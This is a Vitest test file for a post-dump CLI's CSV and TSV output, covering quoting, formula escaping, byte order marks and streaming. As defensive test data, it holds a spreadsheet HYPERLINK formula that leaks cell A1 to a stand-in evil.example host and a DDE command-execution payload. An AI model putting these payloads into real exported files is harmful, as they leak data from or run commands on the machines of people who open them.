import { readFileSync } from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { run } from '../src/cli/main.js';
import { parseDump } from '../src/index.js';
import { csvFormatter, tsvFormatter } from '../src/sinks/text/csv.js';
import { formatOptions } from '../src/sinks/text/options.js';
import { RECORD_KEYS } from '../src/pipeline/record/schema.js';
import { runCli } from './support/cli.js';
import { ROOT, fixturePairs } from './support/fixtures.js';

// The cell rules, read backwards, written apart from src/sinks/text/cells.ts so the round trip checks them.
const INTEGER_KEYS = ['creator_followers', 'engagements', 'source_line'];
const ARRAY_KEYS = ['links', 'topics', 'scrambled', 'warnings'];
const NEVER_NULL_TEXT_KEYS = ['body', 'source_file'];
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u;

function readCell(key: string, cell: string, formulasEscaped: boolean): unknown {
  if (INTEGER_KEYS.includes(key)) {
    if (cell !== '') expect(cell).toMatch(/^\d+$/);
    return cell === '' ? null : Number(cell);
  }
  if (key === 'guest_mode') return { true: true, false: false }[cell] ?? `not a boolean: ${cell}`;
  if (formulasEscaped) expect(cell).not.toMatch(FORMULA_START);
  const text = formulasEscaped && cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
  if (ARRAY_KEYS.includes(key)) return text === '' ? [] : text.split('|');
  if (NEVER_NULL_TEXT_KEYS.includes(key)) return text;
  return text === '' ? null : text;
}

const unescapeTsv = (cell: string) => cell.replace(/\\([tnr\\])/g, (_, c: string) => ({ t: '\t', n: '\n', r: '\r', '\\': '\\' })[c] ?? c);

/**
 * Reads CSV or TSV output back with csv-parse into records, by the cell rules. Any line break outside
 * quotes ends a row, as in Python's csv module and spreadsheets (csv-parse alone would guess CRLF only).
 */
function readTable(format: 'csv' | 'tsv', text: string, formulasEscaped: boolean): Record<string, unknown>[] {
  const rows: string[][] =
    format === 'csv'
      ? parse(text, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] })
      : (parse(text, { bom: true, delimiter: '\t', quote: false, record_delimiter: '\n' }) as string[][]).map((row) => row.map(unescapeTsv));
  const [header, ...body] = rows;
  return body.map((row) => Object.fromEntries(header!.map((key, i) => [key, readCell(key, row[i]!, formulasEscaped)])));
}

const withRecords = fixturePairs().filter((pair) => pair.expected.length > 0);
const TRICKY = path.join(ROOT, 'fixtures/variations/v25-csv-tricky-cells.txt');
const HYPERLINK_BODY = readFileSync(TRICKY, 'utf8').split('\n')[4]!;

describe('CSV and TSV read back give the NDJSON values', () => {
  const cases = withRecords.flatMap(({ dump }) => (['csv', 'tsv'] as const).flatMap((format) => [true, false].map((escapeFormulas) => ({ dump, format, escape: escapeFormulas }))));
  it.each(cases)('$dump as $format (escape formulas: $escape)', async ({ dump, format, escape: escapeFormulas }) => {
    const file = path.join(ROOT, dump);
    const ndjson = await runCli([file]);
    const table = await runCli(['-f', format, ...(escapeFormulas ? [] : ['--no-escape-formulas']), file]);
    expect(table.code).toBe(ndjson.code);
    expect(table.stdout.split(/\r?\n/, 1)[0]).toBe(RECORD_KEYS.join(format === 'csv' ? ',' : '\t'));
    // An empty cell is both "no link" ([]) and "links unknown" (null, only the line copy): a table cannot tell them apart.
    const records = ndjson.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { links: string[] | null })
      .map((record) => ({ ...record, links: record.links ?? [] }));
    expect(readTable(format, table.stdout, escapeFormulas)).toEqual(records);
  });
});

describe('one body cell', () => {
  const seed = parseDump(readFileSync(path.join(ROOT, 'fixtures/seed/000_b92caf215c590286.txt'), 'utf8')).records[0]!;
  const options = formatOptions({ fields: ['body'] });
  it.each([
    { body: 'plain', csv: 'plain', tsv: 'plain' },
    { body: '', csv: '', tsv: '' },
    { body: 'a,b', csv: '"a,b"', tsv: 'a,b' },
    { body: 'say "hi"', csv: '"say ""hi"""', tsv: 'say "hi"' },
    { body: 'a\nb', csv: '"a\nb"', tsv: 'a\\nb' },
    { body: 'a\rb', csv: '"a\rb"', tsv: 'a\\rb' },
    { body: 'a\r\nb', csv: '"a\r\nb"', tsv: 'a\\r\\nb' },
    { body: 'a\tb', csv: 'a\tb', tsv: 'a\\tb' },
    { body: 'C:\\x', csv: 'C:\\x', tsv: 'C:\\\\x' },
    { body: '=1+1', csv: "'=1+1", tsv: "'=1+1" },
  ])('$body is $csv in CSV and $tsv in TSV', ({ body, csv, tsv }) => {
    expect(csvFormatter(options).record({ ...seed, body })).toBe(`${csv}\r\n`);
    expect(tsvFormatter(options).record({ ...seed, body })).toBe(`${tsv}\n`);
  });
});

describe('CSV cells', () => {
  it('keeps a body with quotes, commas, a tab and line breaks in one quoted cell, formula escaped', async () => {
    const { stdout } = await runCli(['-f', 'csv', '--fields', 'body', TRICKY]);
    expect(HYPERLINK_BODY).toBe('=HYPERLINK("http://evil.example/?q="&A1, "click me")');
    expect(stdout.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?q=""&A1, ""click me"")\nthen, a ""quoted"" word, a\ttab and a back\\slash\n- dash list: -1 +2 @three"`);
  });

  it('quotes a body whose only special characters are line breaks (csv-stringify skips them when rows end in CRLF)', async () => {
    const { stdout } = await runCli(['-f', 'csv', '--fields', 'body', path.join(ROOT, 'fixtures/samples/s02-youtube-with-key.txt')]);
    expect(stdout).toBe('body\r\n"Growing tomatoes indoors: 90 day timelapse\nEverything we used is linked below."\r\n');
  });

  it.each([
    { flags: [], body: `'${HYPERLINK_BODY}`, name: `'=cmd|' /C calc'!A0` },
    { flags: ['--no-escape-formulas'], body: HYPERLINK_BODY, name: `=cmd|' /C calc'!A0` },
  ])('with $flags a body starting =HYPERLINK( and a display name starting = read back as $body', async ({ flags, body, name }) => {
    const { stdout } = await runCli(['-f', 'csv', '--fields', 'body,creator_display_name', ...flags, TRICKY]);
    const rows: string[][] = parse(stdout);
    expect(rows[1]![0]!.split('\n')[0]).toBe(body);
    expect(rows[3]).toEqual(['', name]);
  });

  it.each([
    ['csv', 'id,post_type'],
    ['tsv', 'id\tpost_type'],
  ])('--bom starts %s with a UTF-8 byte order mark', async (format, header) => {
    const { code, stdout } = await runCli(['-f', format, '--bom', '--fields', 'id,post_type', TRICKY]);
    expect(code).toBe(0);
    expect(stdout.startsWith(`\uFEFF${header}`)).toBe(true);
  });

  it.each(['ndjson', 'json'])('--bom with %s is a usage error', async (format) => {
    const { code, stdout, stderr } = await runCli(['-f', format, '--bom', TRICKY]);
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toContain(`postdump: --bom is for csv and tsv, not ${format}`);
  });

  it('writes only the header for an input with no post, and fails', async () => {
    const { code, stdout } = await runCli(['-f', 'csv', path.join(ROOT, 'fixtures/invalid/s06-not-a-dump.txt')]);
    expect(code).toBe(1);
    expect(stdout).toBe(`${RECORD_KEYS.join(',')}\r\n`);
  });
});

describe('CSV output streams', () => {
  it('writes each row as its post is read, before the input ends', async () => {
    const post = readFileSync(path.join(ROOT, 'fixtures/samples/s01-x-guest.txt'), 'utf8').trimEnd();
    const stdin = new PassThrough();
    const stdout = new PassThrough();
    let output = '';
    const rowsSeen = (count: number) =>
      new Promise<void>((resolve) => {
        const check = () => output.split('\r\n').length - 2 >= count && resolve();
        stdout.on('data', (chunk: Buffer) => {
          output += chunk.toString('utf8');
          check();
        });
        check();
      });
    const done = run(['-f', 'csv', '-q'], { stdin, stdout, stderr: new PassThrough() });
    // Past the first 8000 characters, which the parser holds back to tell text from binary.
    for (let i = 0; i < 10; i++) stdin.write(`${post}\n\n`);
    await rowsSeen(9); // hangs (and the test times out) if rows wait for the end of the input
    stdin.end(`${post}\n`);
    expect(await done).toBe(0);
    expect(output.split('\r\n')).toHaveLength(13);
  });
});
